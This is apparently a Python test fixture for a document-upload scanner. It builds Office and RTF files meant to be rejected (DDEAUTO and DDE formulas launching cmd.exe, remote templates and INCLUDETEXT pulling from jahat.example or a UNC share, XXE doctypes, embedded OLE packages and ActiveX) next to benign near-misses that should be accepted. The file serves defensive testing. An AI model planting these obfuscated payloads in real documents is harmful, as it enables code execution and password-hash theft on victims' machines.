"""Documents that fetch or run by themselves when they are opened, and honest ones close to them."""

from tests.tickets.hostile_files.documents import RTF_START, related
from tests.tickets.hostile_files.hostile import (
    ACCEPTED,
    MACRO,
    MISMATCH,
    OBJECT,
    REMOTE,
    Hostile,
)
from tests.tickets.samples import MIB, archive, declared, docx, office, ole, picture, xlsx

FILLER = "".join(f"<a>{number}</a>" for number in range(100_000))  # more than a megabyte
COMMENT = f"<!--{'x' * 5000}-->"
FIELD = b"\x13 DDEAUTO c:\\\\windows\\\\cmd.exe \x14"
OWN_TEMPLATE = rb"{\*\template C:\\Users\\budi\\Normal.dotm}Surat}"
PASTED = r'INCLUDEPICTURE "https://lkpp.go.id/logo.png" \* MERGEFORMATINET'


def word(body, encoding="utf-8", start='<?xml version="1.0"?>'):
    """A document of these paragraphs."""
    text = f'{start}<w:document xmlns:w="urn:w"><w:body>{body}</w:body></w:document>'
    types = "<Types/>"
    return archive({"[Content_Types].xml": types, "word/document.xml": text.encode(encoding)})


def turn(kind):
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def run(text):
    return f"<w:r><w:instrText>{text}</w:instrText></w:r>"


def told(*texts):
    """A field as Word writes it, its instruction torn into runs."""
    return f"<w:p>{turn('begin')}{''.join(map(run, texts))}{turn('separate')}{turn('end')}</w:p>"


def simple(instruction):
    return f"<w:p><w:fldSimple w:instr='{instruction}'/></w:p>"


def rtf(instruction):
    return RTF_START + rb"{\field{\*\fldinst " + instruction + rb"}{\fldrslt Surat}}}"


def sheet(formula):
    row = f'<c r="A1"><f>{formula}</f><v>1</v></c>'
    return xlsx(**{"xl/worksheets/sheet1.xml": f"<worksheet><row>{row}</row></worksheet>"})


def linked(link):
    return xlsx(
        **{"xl/externalLinks/externalLink1.xml": f"<x:externalLink>{link}</x:externalLink>"}
    )


def holding(content, name="word/embeddings/oleObject1.bin"):
    return docx(**{name: content})


def refused(label, name, content, answer=REMOTE, why="acts when it is opened"):
    return Hostile(label, name, answer, content, why)


def accepted(label, name, content, why="honest, and close to one that acts"):
    return Hostile(label, name, ACCEPTED, content, why)


DOCTYPES = [
    refused(
        "doctype behind a comment",
        "surat.docx",
        word("", start=f"{COMMENT}<!DOCTYPE d SYSTEM 'http://jahat.example/x'>"),
        MISMATCH,
    ),
    refused(
        "doctype behind a comment in UTF-16",
        "surat.docx",
        word("", "utf-16", f"{COMMENT}<!DOCTYPE d>"),
        MISMATCH,
    ),
    refused(
        "doctype behind a long comment",
        "surat.docx",
        word("", start=f"<!--{'x' * 200_000}--><!DOCTYPE d>"),
        MISMATCH,
    ),
    refused(
        "laughs behind a comment",
        "surat.docx",
        archive(
            {
                "[Content_Types].xml": f'{COMMENT}<!DOCTYPE a [<!ENTITY b "ha">]><a>&b;</a>',
                "word/document.xml": "",
            }
        ),
        MISMATCH,
    ),
    accepted("comment before the text", "surat.docx", word("", start=COMMENT)),
    accepted("document in UTF-16", "surat.docx", word(simple(" PAGE "), "utf-16")),
    accepted("words about a doctype", "surat.docx", word("&lt;!DOCTYPE html&gt;")),
]

TARGETS = [
    refused(f"template by {target}", "surat.docx", related("attachedTemplate", target))
    for target in (
        "file:///c:@jahat.example/x.dotm",
        "file://c:80/share/x.dotm",
        "file://jahat.example/share/x.dotm",
        "file:%2F%2Fjahat.example/share/x.dotm",
        "%5C%5Cjahat.example/share/x.dotm",
    )
] + [
    refused(
        "picture from a share",
        "surat.docx",
        related("image", "file://jahat.example/share/x.png"),
        why="tells the password's digest",
    ),
    refused(
        "template of another computer behind the own",
        "surat.docx",
        related("attachedTemplate", "file://localhost//jahat.example/share/x.dotm"),
    ),
    accepted(
        "picture on the own disk of a Mac",
        "surat.docx",
        related("image", "file://localhost/Users/budi/a.png"),
    ),
    accepted("picture of a page", "surat.docx", related("image", "https://lkpp.go.id/a.png")),
]

FIELDS = [
    refused("DDE field", "surat.docx", word(simple(r' DDEAUTO c:\\cmd.exe "/k calc" '))),
    refused("DDE in runs", "surat.docx", word(told(" D", "DE", "AU", 'TO cmd "/k calc"'))),
    refused("DDE in letters", "surat.docx", word(told("&#68;&#x44;E cmd"))),
    refused("DDE in UTF-16", "surat.docx", word(told("DDE cmd", "㰁㸁"), "utf-16")),
    refused(
        "DDE behind another attribute", "surat.docx", word("<w:fldSimple a='>' w:instr='DDE c'/>")
    ),
    refused(
        "DDE around a field",
        "surat.docx",
        word(f"{turn('begin')}{run('DD')}{told(' PAGE ')}{run('EAUTO cmd')}"),
    ),
    refused("DDE behind blanks", "surat.docx", word(told(" " * 3000, "\n" * 3000, "DDEAUTO c"))),
    refused(
        "DDE far inside",
        "surat.docx",
        word(f"{FILLER}{told('DDEAUTO cmd')}{FILLER}"),
    ),
    refused("DDE in a header", "surat.docx", docx(**{"word/header1.xml": told("DDE cmd")})),
    refused("DDE in a part of any name", "surat.docx", docx(**{"word/a.bin": told("DDE cmd")})),
    refused("comment in a field", "surat.docx", word(told("D<!-- -->DE cmd")), MISMATCH),
    refused(
        "comment between the runs of a field",
        "surat.docx",
        word(f"{turn('begin')}{run('DD')}<!--{turn('end')}-->{run('EAUTO cmd')}"),
        MISMATCH,
    ),
    refused("text from a page", "surat.docx", word(told(' INCLUDETEXT "https://jahat.example"'))),
    refused("text from a share", "surat.docx", word(told(r" INCLUDETEXT \\\\192.0.2.7\\a\\b "))),
    refused(
        "text from where a field says",
        "surat.docx",
        word(f"{turn('begin')}{run('INCLUDETEXT ')}{told('QUOTE 104')}"),
    ),
    refused(
        "picture that is fetched each time",
        "surat.docx",
        word(told(r'INCLUDEPICTURE "https://jahat.example/a" \d')),
    ),
    refused(
        "picture of a page in .net", "surat.docx", word(told("INCLUDEPICTURE http://jahat.net/a"))
    ),
    refused(
        "pasted picture on a share",
        "surat.docx",
        word(told(r'INCLUDEPICTURE "\\\\192.0.2.7\\a" \* MERGEFORMATINET')),
    ),
    accepted("picture pasted from a page", "surat.docx", word(told(PASTED))),
    accepted("picture pasted from a letter", "surat.docx", word(told(r'INCLUDEPICTURE "cid:a"'))),
    accepted(
        "table linked to the own disk",
        "surat.docx",
        word(told(r'LINK Excel.Sheet.12 "C:\\data\\hps.xlsx" "R1C1:R9C4" \a')),
    ),
    accepted(
        "hyperlink as a field", "surat.docx", word(told(' HYPERLINK "https://lkpp.go.id/DDE" '))
    ),
    accepted("field of an addendum", "surat.docx", word(told(" MERGEFIELD ADDENDUM "))),
    accepted("fields and a comment", "surat.docx", word("<!-- isi -->" + told(" PAGE "))),
    accepted("words about DDE", "surat.docx", word("<w:t>DDEAUTO cmd</w:t>" + told(" PAGE "))),
]

FORMULAS = [
    refused("DDE formula", "data.xlsx", sheet("cmd|'/c calc'!A0")),
    refused("DDE formula in letters", "data.xlsx", sheet("cmd&#124;&apos;/c calc&apos;!A0")),
    refused(
        "DDE formula in raw text", "data.xlsx", sheet("<![CDATA[cmd|'/c calc'!A0]]>"), MISMATCH
    ),
    refused("DDE formula behind a text", "data.xlsx", sheet("""IF(A1="'",'a'|'b'!c,"'")""")),
    refused("DDE formula far inside", "data.xlsx", sheet(f"1</f></c>{FILLER}<f>cmd|'a'!A0")),
    refused("DDE link", "data.xlsx", linked('<x:ddeLink ddeService="cmd" ddeTopic="/c calc"/>')),
    refused(
        "DDE in a name",
        "data.xlsx",
        xlsx(**{"xl/names.xml": "<a><definedName name='b'>cmd|'/c calc'!A0</definedName></a>"}),
    ),
    accepted("formula with a bar in a text", "data.xlsx", sheet('A1&amp;"|"&amp;B1')),
    accepted("formula with a bar in names", "data.xlsx", sheet("'a|b'!A1+Tabel1[c|d]")),
    accepted("bar in a cell", "data.xlsx", xlsx(**{"xl/sharedStrings.xml": "<t>cmd|'a'!A0</t>"})),
    accepted("link to another workbook", "data.xlsx", linked("<x:externalBook/>")),
]

OBJECTS = [
    refused("package in a document", "surat.docx", holding(ole("\1Ole10Native")), OBJECT),
    refused(
        "package by another name", "surat.docx", holding(ole("\1ole10native"), "a.dat"), OBJECT
    ),
    refused(
        "package in a workbook",
        "data.xlsx",
        xlsx(**{"xl/embeddings/oleObject1.bin": ole("\1Ole10Native")}),
        OBJECT,
    ),
    refused("object without a root", "surat.docx", holding(ole()[:512] + b"MZ" * 512), OBJECT),
    refused("object with macros", "surat.docx", holding(ole("_VBA_PROJECT")), MACRO),
    refused(
        "package in an old document", "surat.doc", ole("WordDocument", "\1Ole10Native"), OBJECT
    ),
    refused("RTF in a document", "surat.docx", holding(rb"{\rtf1{\*\objdata 01}}", "a"), OBJECT),
    refused("ActiveX", "surat.docx", docx(**{"word/activeX/activeX1.xml": "<a/>"}), OBJECT),
    refused(
        "ActiveX by another name",
        "data.xlsx",
        xlsx(types=declared("application/vnd.ms-office.activeX+xml")),
        OBJECT,
    ),
    refused("ActiveX only linked", "surat.docx", related("control", "a.xml"), OBJECT),
    refused("ActiveX's data linked", "surat.docx", related("activeXControlBinary", "a"), OBJECT),
    accepted("equation", "surat.docx", holding(ole("Equation Native"))),
    accepted("drawing program's object", "surat.docx", holding(ole("Package", "\1CompObj"))),
    accepted("workbook in a document", "surat.docx", holding(xlsx(), "word/embeddings/a.xlsx")),
    accepted(
        "slides in a document", "surat.docx", holding(office("ppt/presentation.xml"), "a.pptx")
    ),
    accepted("picture in a document", "surat.docx", holding(picture(), "word/media/image1.jpg")),
    accepted(
        "button of a workbook",
        "data.xlsx",
        xlsx(**{"xl/ctrlProps/ctrlProp1.xml": "<formControl/>"}),
    ),
    accepted(
        "drawing with a doctype",
        "surat.docx",
        holding("<!DOCTYPE svg><svg/>", "word/media/image1.svg"),
        "pictures of other programs have it; is no part of Office's own",
    ),
]

OLD = [
    refused("RTF with a template", "surat.doc", rb"{\rtf1{\*\template http://jahat.example/a}a}"),
    refused(
        "RTF with a template on a share", "surat.doc", rb"{\rtf1{\*\template \\\\192.0.2.7\\a}a}"
    ),
    refused("RTF with text from a page", "surat.doc", rtf(b"INCLUDETEXT https://jahat.example/a")),
    refused("RTF with a picture", "surat.doc", rtf(b"INCLUDEPICTURE https://jahat.example/a")),
    refused("RTF with text from a share", "surat.doc", rtf(rb"INCLUDETEXT\tab \\\\192.0.2.7\\a")),
    refused("RTF with DDE", "surat.doc", rtf(rb"DDEAUTO c:\\\\cmd.exe calc")),
    refused("RTF with DDE in pieces", "surat.doc", rtf(rb"{\b D}{\i DE" + b"\r\n" + rb"AUTO} cmd")),
    refused("RTF with DDE in numbers", "surat.doc", rtf(rb"\'44\'44E cmd")),
    refused("RTF with DDE in Unicode", "surat.doc", rtf(rb"\u68?\u68?\u69? cmd"), MISMATCH),
    refused(
        "RTF field far inside",
        "surat.doc",
        lambda: [rb"{\rtf1 ", b"a" * (MIB - 24), rtf(b"DDEAUTO cmd"), b"a" * MIB],
    ),
    refused("RTF with DDE behind blanks", "surat.doc", rtf(b" " * 2**17 + b"DDE cmd"), MISMATCH),
    refused(
        "RTF text from where a field says",
        "surat.doc",
        rtf(rb'INCLUDETEXT "{\field{\*\fldinst QUOTE 104}}"'),
    ),
    refused("DDE in an old document", "surat.doc", ole("WordDocument", sheet=FIELD)),
    refused(
        "DDE in an old document's wide letters",
        "surat.doc",
        ole("WordDocument", sheet=FIELD.decode().encode("utf-16-le")),
    ),
    accepted("RTF with the author's template", "surat.doc", rb"{\rtf1" + OWN_TEMPLATE),
    accepted("RTF with a hyperlink", "surat.doc", rtf(b'HYPERLINK "https://lkpp.go.id/"')),
    accepted("RTF with a pasted picture", "surat.doc", rtf(PASTED.replace("\\", "\\\\").encode())),
    accepted("RTF with a page number", "surat.doc", rtf(rb"{\b  PAGE }" + b"\\u8217\\'92")),
]

DOCUMENTS = [*DOCTYPES, *TARGETS, *FIELDS, *FORMULAS, *OBJECTS, *OLD]
